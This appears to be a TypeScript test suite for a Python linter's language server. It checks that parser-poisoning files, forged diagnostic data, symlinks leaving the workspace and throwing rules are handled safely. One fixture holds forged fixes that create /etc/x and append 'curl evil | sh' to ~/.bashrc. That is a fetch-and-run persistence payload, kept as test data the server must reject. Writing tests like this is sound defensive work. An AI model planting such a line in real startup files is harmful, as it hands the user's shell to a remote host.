import * as assert from 'node:assert/strict';
import { mkdtempSync, rmSync, symlinkSync } from 'node:fs';
import { homedir, tmpdir } from 'node:os';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import type { CodeAction, Diagnostic, Hover, TextDocumentEdit } from 'vscode-languageserver';
import { definePythonRule } from '../../server/src/python/rule';
import { RULE_FAILED_NOTIFICATION } from '../../server/src/lsp/ruleFailures';
import { PYTHON_RULES } from '../../server/src/python/rules/index';
import { REPO } from '../support/fixtures';
import { spawnedClient, type TestClient, useWorkspaceServer } from '../support/lspClient';
import { useTempDir } from '../support/tempDir';
import { deeplyNested, disguisedDeeplyNested } from '../support/poison';

const codes = (diagnostics: { code?: string | number }[]) => diagnostics.map((d) => d.code);

describe('language server on hostile input (built bundle over stdio)', function () {
  this.timeout(30_000);
  let dir: string;
  let client: TestClient;
  const uri = (name: string) => pathToFileURL(join(dir, name)).href;

  beforeEach(async () => {
    dir = mkdtempSync(join(tmpdir(), 'stacklint-hostile-'));
    client = spawnedClient(join(REPO, 'dist', 'server.js'));
    await client.initialize(pathToFileURL(dir).href);
  });
  afterEach(async () => {
    await client.shutdown();
    client.connection.dispose();
    rmSync(dir, { recursive: true, force: true });
  });

  for (const [shape, poison] of [['nested', deeplyNested()], ['disguised', disguisedDeeplyNested()]] as const) {
    it(`a document that poisons the parser (${shape}) gets a finding, and documents opened after it are still linted`, async () => {
      await client.open(uri('normal.py'), 'python', 'x = 1\n');
      assert.deepEqual(await client.diagnostics(uri('normal.py')), []);
      await client.open(uri('poison.py'), 'python', poison);
      assert.deepEqual(codes(await client.diagnostics(uri('poison.py'))), ['file-not-linted']);
      await client.open(uri('later.py'), 'python', 'import os\nprint(os.name)\n');
      assert.deepEqual(codes(await client.diagnostics(uri('later.py'))), ['print-call']);
      // The document opened before keeps being linted incrementally, on the new parser.
      await client.connection.sendNotification('textDocument/didChange', {
        textDocument: { uri: uri('normal.py'), version: 2 },
        contentChanges: [{ range: { start: { line: 1, character: 0 }, end: { line: 1, character: 0 } }, text: 'print(x)\n' }],
      });
      assert.deepEqual(codes(await client.diagnostics(uri('normal.py'), (p) => p.version === 2)), ['print-call']);
    });
  }
});

describe('language server against forged requests and links out of the workspace', function () {
  this.timeout(20_000);
  const workspace = useWorkspaceServer('forged');
  const outside = useTempDir('forged-outside');
  const REQUIREMENTS = 'fastapi==0.104.0\npytest==7.4.3\nflask==3.0.0\n';

  /** Every file URI an action would create or edit. */
  function touched(actions: CodeAction[]): string[] {
    return actions.flatMap((action) =>
      (action.edit?.documentChanges ?? []).map((change) => ('kind' in change ? (change as { uri: string }).uri : (change as TextDocumentEdit).textDocument.uri)),
    );
  }

  const openRequirements = () => workspace.lint('requirements.txt', 'pip-requirements', REQUIREMENTS, { onDisk: true });

  const forgedFixes = [
    { title: 'Create /etc/x', safe: true, edits: [{ file: '/etc/x', createFile: true, range: { start: { line: 0, character: 0 }, end: { line: 0, character: 0 } }, newText: 'owned\n' }] },
    { title: 'Edit ~/.bashrc', safe: true, edits: [{ file: join(homedir(), '.bashrc'), range: { start: { line: 0, character: 0 }, end: { line: 0, character: 0 } }, newText: 'curl evil | sh\n' }] },
  ];

  it('forged Diagnostic.data asking to create /etc/x or edit ~/.bashrc yields no such edit', async () => {
    const { uri, diagnostics } = await openRequirements();
    const real = diagnostics.find((d) => d.code === 'dev-dependency-in-production')!;
    const forged: Diagnostic[] = [
      // A real finding with edits smuggled into its data: the server's own fixes are offered instead.
      { ...real, data: { ...(real.data as object), fixes: forgedFixes } },
      // A made-up finding on a line with none.
      { range: { start: { line: 0, character: 0 }, end: { line: 0, character: 7 } }, severity: 2, source: 'stacklint', code: 'print-call', message: 'x', data: { rule: 'print-call', version: 1, fixes: forgedFixes } },
      // Edits in the shape of the old data format, for a real finding's range but another rule.
      { ...real, data: { rule: 'off-stack-dependency', version: 1, fixes: forgedFixes } },
    ];
    const actions = await workspace.client.codeActions(uri, forged, ['quickfix']);
    assert.deepEqual(actions.map((a) => a.title), ['Move pytest to requirements-dev.txt (unsafe)', 'Disable dev-dependency-in-production for this line', 'Show documentation for dev-dependency-in-production']);
    assert.deepEqual([...new Set(touched(actions))].sort(), [workspace.uri('requirements-dev.txt'), uri]);
    const all = await workspace.client.codeActions(uri, forged);
    assert.ok(touched(all).every((target) => target.startsWith(pathToFileURL(workspace.dir).href)), touched(all).join(', '));
  });

  it('no fix moves requirements into a requirements-dev.txt linked outside the workspace', async () => {
    symlinkSync(outside.write('requirements-dev.txt', 'black==24.1.0\n'), join(workspace.dir, 'requirements-dev.txt'));
    const { uri, diagnostics } = await openRequirements();
    const dev = diagnostics.find((d) => d.code === 'dev-dependency-in-production')!;
    const actions = await workspace.client.codeActions(uri, [dev], ['quickfix']);
    assert.deepEqual(actions.map((a) => a.title), ['Disable dev-dependency-in-production for this line', 'Show documentation for dev-dependency-in-production']);
  });

  it('no fix approves a deviation in a pyproject.toml linked outside the workspace', async () => {
    symlinkSync(outside.write('pyproject.toml', '[project]\nname = "elsewhere"\n'), join(workspace.dir, 'pyproject.toml'));
    const { uri, diagnostics } = await openRequirements();
    const flask = diagnostics.find((d) => d.code === 'off-stack-dependency')!;
    const actions = await workspace.client.codeActions(uri, [flask], ['quickfix']);
    assert.ok(!actions.some((a) => /Approve/.test(a.title)), actions.map((a) => a.title).join(', '));
    assert.deepEqual([...new Set(touched(actions))], [uri]);
  });

  it('a diagnostic of an older version selects nothing', async () => {
    const { uri, diagnostics } = await openRequirements();
    const dev = diagnostics.find((d) => d.code === 'dev-dependency-in-production')!;
    const actions = await workspace.client.codeActions(uri, [{ ...dev, data: { rule: dev.code, version: 0 } }], ['quickfix']);
    assert.deepEqual(actions, []);
  });
});

describe('language server when a rule throws', function () {
  this.timeout(20_000);
  const workspace = useWorkspaceServer('rule-fails');
  const throwing = definePythonRule({
    meta: { id: 'always-throws', kind: 'python', defaultSeverity: 'error', ruff: [], fixable: false, summary: 'test rule', sections: [] },
    check(file) {
      if (file.text.includes('boom')) throw new TypeError('boom');
    },
  });
  beforeEach(() => PYTHON_RULES.unshift(throwing));
  afterEach(() => PYTHON_RULES.splice(PYTHON_RULES.indexOf(throwing), 1));

  it('keeps the other findings and tells the client once per rule and file, in a notification and the log', async () => {
    const { client } = workspace;
    const uri = workspace.uri('app.py');
    await client.open(uri, 'python', '# boom\nprint(1)\n');
    assert.deepEqual(codes(await client.diagnostics(uri)), ['print-call']);
    for (const version of [2, 3]) {
      await client.connection.sendNotification('textDocument/didChange', {
        textDocument: { uri, version },
        contentChanges: [{ range: { start: { line: 2, character: 0 }, end: { line: 2, character: 0 } }, text: 'print(2)\n' }],
      });
      await client.diagnostics(uri, (p) => p.version === version);
    }
    const failed = client.notifications.filter((n) => n.method === RULE_FAILED_NOTIFICATION);
    assert.deepEqual(failed.map((n) => n.params), [{ rule: 'always-throws', path: join(workspace.dir, 'app.py'), message: 'TypeError: boom' }]);
    const logged = client.notifications.filter((n) => n.method === 'window/logMessage' && /rule always-throws failed/.test((n.params as { message: string }).message));
    assert.equal(logged.length, 1);
  });
});

describe('language server hover on a changing dependency file', function () {
  this.timeout(20_000);
  const workspace = useWorkspaceServer('hover');

  it('answers from the parse of the current version', async () => {
    const { client } = workspace;
    const { uri } = await workspace.lint('requirements.txt', 'pip-requirements', 'flask==3.0.0\n');
    const hover = async () => ((await client.connection.sendRequest('textDocument/hover', { textDocument: { uri }, position: { line: 0, character: 2 } })) as Hover | null)?.contents;
    assert.match(((await hover()) as { value: string }).value, /^\*\*flask\*\*: banned/);
    await client.connection.sendNotification('textDocument/didChange', { textDocument: { uri, version: 2 }, contentChanges: [{ text: 'httpx==0.27.0\n' }] });
    assert.match(((await hover()) as { value: string }).value, /^\*\*httpx\*\*: part of the standard stack/);
  });
});
